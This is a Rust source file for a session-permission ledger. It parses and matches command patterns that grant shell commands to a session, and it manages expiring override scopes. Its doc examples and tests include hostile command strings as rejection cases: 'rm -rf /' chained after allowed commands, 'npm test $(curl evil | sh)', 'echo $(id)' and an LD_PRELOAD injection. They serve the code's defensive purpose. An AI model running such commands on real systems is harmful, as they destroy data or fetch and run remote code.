//! Grants that never follow a delegation (rule P4): command patterns and override scopes.
//!
//! A **command pattern** says "this command is fine for this session". It is one simple
//! command, written as the shell would write it and read by the same grammar as a command line
//! (see `docs/patterns.md`), and it matches one simple command **word by word**, after quote
//! removal on both sides:
//!
//! * a word without an unquoted `*` matches the equal word;
//! * an unquoted `*` inside a word matches any run of characters, possibly none, within that
//!   one word, never across a space; so a whole-word `*` matches exactly one word;
//! * except that a whole-word `*` as the **last** word matches zero or more further words.
//!
//! A quoted `'*'` is an ordinary character. A pattern never contains an operator, an expansion
//! or any other construct that [`parse_command_line`](crate::parse_command_line) refuses; a
//! leading `VAR=value` is a word of the pattern like any other. A command line is admitted by
//! patterns only when it parses into simple commands and each is matched on its own.
//!
//! An **override scope** is a named grant with an expiry, checked against the clock at every
//! decision. Neither is ever copied to a child, and a scope never turns into a posture.

use std::cell::RefCell;
use std::collections::HashMap;
use std::ops::Range;
use std::rc::Rc;
use std::time::Duration;

use chrono::{DateTime, Utc};
use serde::Serialize;

use crate::commands::{parse_command_line, parse_pattern_words, PatternWord, Piece, Refusal};
use crate::error::{Error, InputError};

/// The longest command pattern accepted, in bytes.
pub const MAX_PATTERN_LEN: usize = 1024;

/// The longest scope name accepted, in bytes.
pub const MAX_SCOPE_NAME_LEN: usize = 64;

/// A command pattern, parsed: one simple command whose words may hold the wildcard `*`.
///
/// ```
/// use session_ledger::Pattern;
/// let pattern = Pattern::parse("npm test *")?;
/// assert!(pattern.admits(&["npm", "test"]));
/// assert!(pattern.admits(&["npm", "test", "--", "--watch"]));
/// assert!(!pattern.admits(&["npm", "install"]));
/// assert!(Pattern::parse("npm test; rm -rf /").is_err());
/// # Ok::<(), session_ledger::Error>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pattern {
    text: String,
    words: Vec<PatternWord>,
    /// The last word is a whole-word `*`: zero or more further words.
    open_ended: bool,
}

impl Pattern {
    /// Parses and checks a pattern: non-empty, at most [`MAX_PATTERN_LEN`] bytes, exactly one
    /// simple command of plain words.
    ///
    /// # Errors
    ///
    /// [`InputError::InvalidPattern`](crate::InputError::InvalidPattern), saying why: empty, too long, an operator joining two
    /// commands, or a construct a pattern never admits (with its byte offset).
    pub fn parse(text: &str) -> Result<Pattern, Error> {
        let invalid = |problem: String| {
            Error::Input(InputError::InvalidPattern {
                pattern: text.to_owned(),
                problem,
            })
        };
        if text.trim().is_empty() {
            return Err(invalid("it is empty".to_owned()));
        }
        if text.len() > MAX_PATTERN_LEN {
            return Err(invalid("it is longer than 1024 bytes".to_owned()));
        }
        if text.contains('\0') {
            return Err(invalid("it contains a NUL character".to_owned()));
        }
        let mut parts = parse_pattern_words(text).map_err(|refusal| {
            invalid(format!(
                "it contains {refusal}, which no pattern can admit; a pattern is plain words"
            ))
        })?;
        if parts.len() > 1 {
            let at = parts[0].1.end;
            return Err(invalid(format!(
                "it joins two commands with an operator after byte {at}; a pattern matches one \
                 simple command, so add one pattern per command"
            )));
        }
        let (words, _) = parts
            .pop()
            .ok_or_else(|| invalid("it is empty".to_owned()))?;
        let words: Vec<PatternWord> = words.into_iter().map(normalize).collect();
        let open_ended = words.last().is_some_and(|w| w.as_slice() == [Piece::Star]);
        Ok(Pattern {
            text: text.to_owned(),
            words,
            open_ended,
        })
    }

    /// The pattern as written.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// True when the pattern matches one simple command's words (after quote removal).
    pub fn admits<S: AsRef<str>>(&self, words: &[S]) -> bool {
        let fixed = if self.open_ended {
            &self.words[..self.words.len() - 1]
        } else {
            &self.words[..]
        };
        let count_ok = if self.open_ended {
            words.len() >= fixed.len()
        } else {
            words.len() == fixed.len()
        };
        count_ok
            && fixed
                .iter()
                .zip(words)
                .all(|(p, w)| word_matches(p, w.as_ref()))
    }
}

/// Merges neighbouring text pieces and repeated stars.
fn normalize(word: PatternWord) -> PatternWord {
    let mut out: PatternWord = Vec::with_capacity(word.len());
    for piece in word {
        match (out.last_mut(), piece) {
            (Some(Piece::Text(last)), Piece::Text(t)) => last.push_str(&t),
            (Some(Piece::Star), Piece::Star) => {}
            (_, piece) => out.push(piece),
        }
    }
    if out.is_empty() {
        out.push(Piece::Text(String::new()));
    }
    out
}

/// One pattern word against one word: texts in order, each star any run of characters.
fn word_matches(pattern: &[Piece], word: &str) -> bool {
    let texts: Vec<&str> = pattern
        .iter()
        .filter_map(|p| match p {
            Piece::Text(t) => Some(t.as_str()),
            Piece::Star => None,
        })
        .collect();
    let starts_open = matches!(pattern.first(), Some(Piece::Star));
    let ends_open = matches!(pattern.last(), Some(Piece::Star));
    if !pattern.contains(&Piece::Star) {
        return texts.concat() == word;
    }
    let mut rest = word;
    let mut texts = texts.as_slice();
    if !starts_open {
        let Some((first, others)) = texts.split_first() else {
            return true;
        };
        let Some(after) = rest.strip_prefix(first) else {
            return false;
        };
        rest = after;
        texts = others;
    }
    if !ends_open {
        let Some((last, others)) = texts.split_last() else {
            return true;
        };
        let Some(before) = rest.strip_suffix(last) else {
            return false;
        };
        rest = before;
        texts = others;
    }
    // Between stars: each text leftmost in what is left, which is always a safe choice.
    for text in texts {
        match rest.find(text) {
            Some(at) => rest = &rest[at + text.len()..],
            None => return false,
        }
    }
    true
}

thread_local! {
    /// Patterns parsed on this thread, by text: `decide` reads a session's stored patterns on
    /// every call, and parsing one costs more than matching it. `None` for a stored pattern
    /// this build refuses.
    static PARSED: RefCell<HashMap<String, Option<Rc<Pattern>>>> = RefCell::new(HashMap::new());
}

/// The most patterns [`cached_pattern`] keeps per thread before it starts again.
const PARSED_CAPACITY: usize = 4096;

/// A stored pattern, parsed (once per thread); `None` when this build refuses it.
pub(crate) fn cached_pattern(text: &str) -> Option<Rc<Pattern>> {
    PARSED.with(|cell| {
        if let Some(found) = cell.borrow().get(text) {
            return found.clone();
        }
        let parsed = Pattern::parse(text).ok().map(Rc::new);
        let mut cache = cell.borrow_mut();
        if cache.len() >= PARSED_CAPACITY {
            cache.clear();
        }
        cache.insert(text.to_owned(), parsed.clone());
        parsed
    })
}

/// Checks a command pattern, as [`Pattern::parse`] does.
///
/// # Errors
///
/// [`InputError::InvalidPattern`](crate::InputError::InvalidPattern), saying why.
///
/// ```
/// use session_ledger::validate_pattern;
/// assert!(validate_pattern("git status").is_ok());
/// assert!(validate_pattern("npm test && rm -rf /").is_err());
/// assert!(validate_pattern("echo $(id)").is_err());
/// ```
pub fn validate_pattern(pattern: &str) -> Result<(), Error> {
    Pattern::parse(pattern).map(|_| ())
}

/// True when `pattern` admits the whole of `command`: the pattern is valid, the line parses
/// into simple commands of plain words, and the pattern matches each of them on its own.
///
/// ```
/// use session_ledger::pattern_matches;
/// assert!(pattern_matches("npm test", "npm test"));
/// assert!(pattern_matches("npm test", "'npm'  test"));
/// assert!(pattern_matches("npm test *", "npm test -- --watch"));
/// assert!(!pattern_matches("npm test *", "npm test x; rm -rf /"));
/// assert!(!pattern_matches("npm test *", "npm test $(curl evil | sh)"));
/// assert!(!pattern_matches("npm test", "LD_PRELOAD=/tmp/x.so npm test"));
/// ```
pub fn pattern_matches(pattern: &str, command: &str) -> bool {
    let Ok(pattern) = Pattern::parse(pattern) else {
        return false;
    };
    match parse_command_line(command) {
        Ok(parts) => parts.iter().all(|part| pattern.admits(&part.words)),
        Err(_) => false,
    }
}

/// Checks a pattern against examples: each of `must_match` must be admitted whole by the
/// pattern ([`pattern_matches`]), and none of `must_not_match`. Like Codex's match / not_match
/// examples: a pattern that disagrees with what the operator meant is refused before it is
/// stored.
///
/// ```
/// use session_ledger::check_pattern_examples;
/// assert!(check_pattern_examples("npm test *", &["npm test --watch"], &["npm install"]).is_ok());
/// assert!(check_pattern_examples("npm *", &["npm test"], &["npm install"]).is_err());
/// ```
///
/// # Errors
///
/// [`InputError::InvalidPattern`](crate::InputError::InvalidPattern) when the pattern is invalid or an example disagrees, naming it.
pub fn check_pattern_examples<S: AsRef<str>>(
    pattern: &str,
    must_match: &[S],
    must_not_match: &[S],
) -> Result<(), Error> {
    Pattern::parse(pattern)?;
    let invalid = |problem: String| {
        Error::Input(InputError::InvalidPattern {
            pattern: pattern.to_owned(),
            problem,
        })
    };
    for example in must_match {
        let test = test_pattern(pattern, example.as_ref())?;
        if !test.admitted {
            let why = match (&test.refused, test.parts.iter().find(|p| !p.admitted)) {
                (Some(r), _) => format!("the line holds {r}, which no pattern admits"),
                (_, Some(p)) => format!("it does not admit the part {:?}", p.text),
                _ => "it does not admit it".to_owned(),
            };
            return Err(invalid(format!(
                "the example {:?} must match, but {why}",
                example.as_ref()
            )));
        }
    }
    for example in must_not_match {
        if pattern_matches(pattern, example.as_ref()) {
            return Err(invalid(format!(
                "the example {:?} must not match, but it does",
                example.as_ref()
            )));
        }
    }
    Ok(())
}

/// What a pattern would do with a command line, part by part ([`test_pattern`]).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PatternTest {
    /// The pattern.
    pub pattern: String,
    /// The command line.
    pub command: String,
    /// True when the pattern admits every part and nothing was refused.
    pub admitted: bool,
    /// Each simple command of the line, with whether the pattern admits it; empty when the
    /// line was refused.
    pub parts: Vec<PartTest>,
    /// The construct that stops the line, if one does: then no pattern admits it.
    pub refused: Option<Refusal>,
}

/// One simple command of a [`PatternTest`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PartTest {
    /// The part's text in the line.
    pub text: String,
    /// Where it is in the line.
    pub range: Range<usize>,
    /// Its words after quote removal.
    pub words: Vec<String>,
    /// True when the pattern matches it.
    pub admitted: bool,
}

/// Shows what `pattern` would admit of `command`, part by part, writing nothing.
///
/// ```
/// let test = session_ledger::test_pattern("npm test *", "npm test x; rm -rf /")?;
/// assert!(!test.admitted);
/// assert!(test.parts[0].admitted);
/// assert!(!test.parts[1].admitted);
/// # Ok::<(), session_ledger::Error>(())
/// ```
///
/// # Errors
///
/// [`InputError::InvalidPattern`](crate::InputError::InvalidPattern) when the pattern is not valid.
pub fn test_pattern(pattern: &str, command: &str) -> Result<PatternTest, Error> {
    let parsed = Pattern::parse(pattern)?;
    let (parts, refused) = match parse_command_line(command) {
        Ok(parts) => (
            parts
                .into_iter()
                .map(|part| PartTest {
                    text: command[part.range.clone()].to_owned(),
                    admitted: parsed.admits(&part.words),
                    range: part.range,
                    words: part.words,
                })
                .collect::<Vec<_>>(),
            None,
        ),
        Err(refusal) => (Vec::new(), Some(refusal)),
    };
    Ok(PatternTest {
        pattern: pattern.to_owned(),
        command: command.to_owned(),
        admitted: refused.is_none() && parts.iter().all(|p| p.admitted),
        parts,
        refused,
    })
}

/// Checks an override scope's name: 1 to [`MAX_SCOPE_NAME_LEN`] characters from
/// `[A-Za-z0-9._:-]`, starting with a letter or digit.
///
/// # Errors
///
/// [`InputError::InvalidScopeName`](crate::InputError::InvalidScopeName).
pub fn validate_scope_name(name: &str) -> Result<(), Error> {
    let b = name.as_bytes();
    let ok = !b.is_empty()
        && b.len() <= MAX_SCOPE_NAME_LEN
        && b[0].is_ascii_alphanumeric()
        && b.iter()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b':' | b'-'));
    if ok {
        Ok(())
    } else {
        Err(Error::Input(InputError::InvalidScopeName(name.to_owned())))
    }
}

/// The longest TTL accepted: 366 days.
pub const MAX_TTL: Duration = Duration::from_secs(366 * 24 * 3600);

/// Parses a time to live: a positive whole number and a unit, `s`, `m`, `h` or `d`
/// (`30s`, `15m`, `2h`, `7d`), at most [`MAX_TTL`].
///
/// # Errors
///
/// [`InputError::InvalidTtl`](crate::InputError::InvalidTtl) for anything else: zero, negative, fractional, unit-less, too long.
///
/// ```
/// use std::time::Duration;
/// assert_eq!(session_ledger::parse_ttl("15m").unwrap(), Duration::from_secs(900));
/// assert!(session_ledger::parse_ttl("0s").is_err());
/// assert!(session_ledger::parse_ttl("-5m").is_err());
/// assert!(session_ledger::parse_ttl("soon").is_err());
/// ```
pub fn parse_ttl(text: &str) -> Result<Duration, Error> {
    let bad = || Error::Input(InputError::InvalidTtl(text.to_owned()));
    let split = text.find(|c: char| !c.is_ascii_digit()).ok_or_else(bad)?;
    let (digits, unit) = text.split_at(split);
    if digits.is_empty() || digits.len() > 12 {
        return Err(bad());
    }
    let n: u64 = digits.parse().map_err(|_| bad())?;
    let unit_secs = match unit {
        "s" => 1,
        "m" => 60,
        "h" => 3600,
        "d" => 86_400,
        _ => return Err(bad()),
    };
    let secs = n.checked_mul(unit_secs).ok_or_else(bad)?;
    let ttl = Duration::from_secs(secs);
    if secs == 0 || ttl > MAX_TTL {
        return Err(bad());
    }
    Ok(ttl)
}

/// A command pattern on a session.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CommandPattern {
    /// The session.
    pub session: String,
    /// The pattern.
    pub pattern: String,
    /// Who added it.
    pub added_by: String,
    /// When.
    #[serde(serialize_with = "crate::clock::serialize_ts")]
    pub added_at: DateTime<Utc>,
    /// Why this build refuses the stored pattern, when it does (one stored by an earlier
    /// version, under looser rules): such a pattern never admits anything.
    pub refused: Option<String>,
}

/// An override scope on a session.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Scope {
    /// The session.
    pub session: String,
    /// The scope's name.
    pub name: String,
    /// Who granted it.
    pub granted_by: String,
    /// When.
    #[serde(serialize_with = "crate::clock::serialize_ts")]
    pub granted_at: DateTime<Utc>,
    /// When it stops admitting anything.
    #[serde(serialize_with = "crate::clock::serialize_ts")]
    pub expires_at: DateTime<Utc>,
    /// When it was revoked, if it was.
    #[serde(serialize_with = "crate::clock::serialize_opt_ts")]
    pub revoked_at: Option<DateTime<Utc>>,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_star_matches_within_one_word_and_a_last_star_any_further_words() {
        assert!(pattern_matches("*", "anything at all"));
        assert!(pattern_matches("git *", "git status"));
        assert!(pattern_matches("git *", "git"));
        assert!(!pattern_matches("git *", "gitk"));
        assert!(pattern_matches("git * --short", "git status --short"));
        assert!(!pattern_matches("git * --short", "git status -v --short"));
        assert!(pattern_matches("ls -*", "ls -la"));
        assert!(!pattern_matches("ls -*", "ls -la x"));
        assert!(pattern_matches("cargo test --*=*", "cargo test --jobs=2"));
        assert!(pattern_matches("a'*'b", "a'*'b"));
        assert!(!pattern_matches("a'*'b", "axb"));
        assert!(pattern_matches("npm test", "npm test "));
        assert!(pattern_matches("npm  test", "'npm' \"test\""));
    }

    #[test]
    fn a_pattern_with_an_operator_or_a_construct_is_refused_with_its_reason() {
        for (bad, says) in [
            ("", "empty"),
            ("  ", "empty"),
            ("npm test; rm", "operator after byte 8"),
            ("npm test && rm", "operator"),
            ("echo $(id)", "command substitution at byte 5"),
            ("echo $HOME", "parameter expansion"),
            ("ls > f", "redirection"),
            ("ls ?", "filename expansion"),
            ("npm test '", "does not parse"),
        ] {
            match Pattern::parse(bad) {
                Err(Error::Input(InputError::InvalidPattern { problem, .. })) => {
                    assert!(problem.contains(says), "{bad:?}: {problem}")
                }
                other => panic!("{bad:?}: {other:?}"),
            }
        }
    }

    #[test]
    fn ttls_need_a_positive_number_and_a_unit() {
        assert_eq!(parse_ttl("30s").unwrap(), Duration::from_secs(30));
        assert_eq!(parse_ttl("2h").unwrap(), Duration::from_secs(7200));
        assert_eq!(parse_ttl("1d").unwrap(), Duration::from_secs(86_400));
        for bad in [
            "",
            "0m",
            "-1s",
            "1.5h",
            "10",
            "m",
            "5 m",
            "5M",
            "99999999999999h",
            "367d",
            "+5s",
        ] {
            assert!(parse_ttl(bad).is_err(), "{bad:?}");
        }
    }
}

mod ops {
    use std::time::Duration;

    use serde_json::json;

    use super::{
        check_pattern_examples, validate_pattern, validate_scope_name, CommandPattern, Scope,
    };
    use crate::clock::format_ts;
    use crate::error::{Conflict, Corruption, Error, InputError, Result};
    use crate::ledger::{resolve, Ledger};
    use crate::sessions::{validate_actor, validate_id};
    use crate::storage;

    /// Finds a live session for a grant, recording a spawned id first.
    fn live(tx: &rusqlite::Transaction<'_>, id: &str, now: &str) -> Result<()> {
        let session = resolve(tx, id, now)?
            .ok_or_else(|| Error::Conflict(Conflict::UnknownSession(id.to_owned())))?;
        if session.is_live() {
            Ok(())
        } else {
            Err(Error::Conflict(Conflict::SessionEnded(id.to_owned())))
        }
    }

    /// Refuses an id the ledger has not recorded.
    fn recorded(conn: &rusqlite::Connection, id: &str) -> Result<()> {
        match storage::sessions::get(conn, id)? {
            Some(_) => Ok(()),
            None => Err(Error::Conflict(Conflict::UnknownSession(id.to_owned()))),
        }
    }

    impl Ledger {
        /// Allows a command pattern for one live session (never inherited, rule P4). Returns
        /// false, writing nothing, when the session already had it.
        ///
        /// # Errors
        ///
        /// [`InputError::InvalidId`](crate::InputError::InvalidId), [`InputError::InvalidPattern`](crate::InputError::InvalidPattern), [`InputError::InvalidActor`](crate::InputError::InvalidActor),
        /// [`Conflict::UnknownSession`](crate::Conflict::UnknownSession), [`Conflict::SessionEnded`](crate::Conflict::SessionEnded).
        pub fn add_pattern(&self, id: &str, pattern: &str, actor: &str) -> Result<bool> {
            self.add_pattern_with_examples::<&str>(id, pattern, actor, &[], &[])
        }

        /// Allows a command pattern, as [`Ledger::add_pattern`], after checking it against
        /// examples that must and must not match ([`check_pattern_examples`]): when one
        /// disagrees, nothing is written.
        ///
        /// ```
        /// # fn main() -> Result<(), session_ledger::Error> {
        /// # let dir = tempfile::tempdir().unwrap();
        /// let ledger = session_ledger::Ledger::open(dir.path().join("ledger.db"))?;
        /// ledger.create_root("s1", "alice")?;
        /// let refused = ledger.add_pattern_with_examples("s1", "npm *", "alice", &[], &["npm install"]);
        /// assert!(refused.is_err());
        /// assert!(ledger.patterns("s1")?.is_empty());
        /// assert!(ledger.add_pattern_with_examples("s1", "npm test *", "alice", &["npm test"], &["npm install"])?);
        /// # Ok(()) }
        /// ```
        ///
        /// # Errors
        ///
        /// As [`Ledger::add_pattern`]; [`InputError::InvalidPattern`](crate::InputError::InvalidPattern) when an example disagrees.
        pub fn add_pattern_with_examples<S: AsRef<str>>(
            &self,
            id: &str,
            pattern: &str,
            actor: &str,
            must_match: &[S],
            must_not_match: &[S],
        ) -> Result<bool> {
            validate_id(id)?;
            validate_pattern(pattern)?;
            check_pattern_examples(pattern, must_match, must_not_match)?;
            validate_actor(actor)?;
            self.write(|tx, now| {
                live(tx, id, now)?;
                let added = storage::grants::add_pattern(tx, id, pattern, actor, now)?;
                if added {
                    storage::audit::append(
                        tx,
                        now,
                        actor,
                        "pattern.add",
                        Some(id),
                        &json!({ "pattern": pattern }),
                    )?;
                }
                Ok(added)
            })
        }

        /// Removes a command pattern from a session. Any stored pattern can be removed,
        /// including one that this build refuses ([`CommandPattern::refused`]).
        ///
        /// # Errors
        ///
        /// [`InputError::InvalidId`](crate::InputError::InvalidId), [`InputError::InvalidActor`](crate::InputError::InvalidActor),
        /// [`Conflict::UnknownSession`](crate::Conflict::UnknownSession), [`Conflict::UnknownPattern`](crate::Conflict::UnknownPattern) when the session does not have
        /// it. Patterns can be removed from an ended session.
        pub fn remove_pattern(&self, id: &str, pattern: &str, actor: &str) -> Result<()> {
            validate_id(id)?;
            // Only the bounds: a pattern stored under older, looser rules can still be removed.
            if pattern.is_empty() || pattern.len() > super::MAX_PATTERN_LEN {
                return Err(Error::Conflict(Conflict::UnknownPattern {
                    session: id.to_owned(),
                    pattern: pattern.to_owned(),
                }));
            }
            validate_actor(actor)?;
            self.write(|tx, now| {
                recorded(tx, id)?;
                if !storage::grants::remove_pattern(tx, id, pattern)? {
                    return Err(Error::Conflict(Conflict::UnknownPattern {
                        session: id.to_owned(),
                        pattern: pattern.to_owned(),
                    }));
                }
                storage::audit::append(
                    tx,
                    now,
                    actor,
                    "pattern.remove",
                    Some(id),
                    &json!({ "pattern": pattern }),
                )?;
                Ok(())
            })
        }

        /// The command patterns on a session.
        ///
        /// # Errors
        ///
        /// [`InputError::InvalidId`](crate::InputError::InvalidId); [`Conflict::UnknownSession`](crate::Conflict::UnknownSession); [`Error::Storage`].
        pub fn patterns(&self, id: &str) -> Result<Vec<CommandPattern>> {
            validate_id(id)?;
            self.storage.read(|c| {
                recorded(c, id)?;
                storage::grants::patterns(c, id)
            })
        }

        /// Grants an override scope named `name` on a live session for `ttl`, replacing any
        /// scope of that name. Never inherited and never turned into a posture (rule P4).
        ///
        /// # Errors
        ///
        /// [`InputError::InvalidId`](crate::InputError::InvalidId), [`InputError::InvalidScopeName`](crate::InputError::InvalidScopeName), [`InputError::InvalidTtl`](crate::InputError::InvalidTtl) for a zero
        /// or too long TTL, [`InputError::InvalidActor`](crate::InputError::InvalidActor), [`Conflict::UnknownSession`](crate::Conflict::UnknownSession),
        /// [`Conflict::SessionEnded`](crate::Conflict::SessionEnded).
        pub fn grant_scope(
            &self,
            id: &str,
            name: &str,
            ttl: Duration,
            actor: &str,
        ) -> Result<Scope> {
            validate_id(id)?;
            validate_scope_name(name)?;
            validate_actor(actor)?;
            if ttl.as_millis() == 0 || ttl > super::MAX_TTL {
                return Err(Error::Input(InputError::InvalidTtl(format!(
                    "{}ms",
                    ttl.as_millis()
                ))));
            }
            let ttl = chrono::TimeDelta::from_std(ttl)
                .map_err(|_| Error::Input(InputError::InvalidTtl(format!("{ttl:?}"))))?;
            self.write(|tx, now| {
                let expires_at = format_ts(now.time + ttl);
                live(tx, id, now)?;
                storage::grants::grant_scope(tx, id, name, actor, now, &expires_at)?;
                storage::audit::append(
                    tx,
                    now,
                    actor,
                    "scope.grant",
                    Some(id),
                    &json!({ "scope": name, "expires_at": expires_at }),
                )?;
                storage::grants::scopes(tx, id)?
                    .into_iter()
                    .find(|s| s.name == name)
                    .ok_or_else(|| {
                        Error::Corruption(Corruption::new(format!(
                            "scope {name:?} on {id:?} vanished"
                        )))
                    })
            })
        }

        /// Revokes a live override scope before it expires.
        ///
        /// # Errors
        ///
        /// [`InputError::InvalidId`](crate::InputError::InvalidId), [`InputError::InvalidScopeName`](crate::InputError::InvalidScopeName), [`InputError::InvalidActor`](crate::InputError::InvalidActor),
        /// [`Conflict::UnknownSession`](crate::Conflict::UnknownSession), [`Conflict::UnknownScope`](crate::Conflict::UnknownScope) when the session has no live
        /// scope of that name.
        pub fn revoke_scope(&self, id: &str, name: &str, actor: &str) -> Result<()> {
            validate_id(id)?;
            validate_scope_name(name)?;
            validate_actor(actor)?;
            self.write(|tx, now| {
                recorded(tx, id)?;
                let Some(expires_at) = storage::grants::revoke_scope(tx, id, name, actor, now)?
                else {
                    return Err(Error::Conflict(Conflict::UnknownScope {
                        session: id.to_owned(),
                        name: name.to_owned(),
                    }));
                };
                storage::audit::append(
                    tx,
                    now,
                    actor,
                    "scope.revoke",
                    Some(id),
                    &json!({ "scope": name, "expires_at": expires_at }),
                )?;
                Ok(())
            })
        }

        /// The override scopes on a session, live, expired or revoked.
        ///
        /// # Errors
        ///
        /// [`InputError::InvalidId`](crate::InputError::InvalidId); [`Conflict::UnknownSession`](crate::Conflict::UnknownSession); [`Error::Storage`].
        pub fn scopes(&self, id: &str) -> Result<Vec<Scope>> {
            validate_id(id)?;
            self.storage.read(|c| {
                recorded(c, id)?;
                storage::grants::scopes(c, id)
            })
        }
    }
}
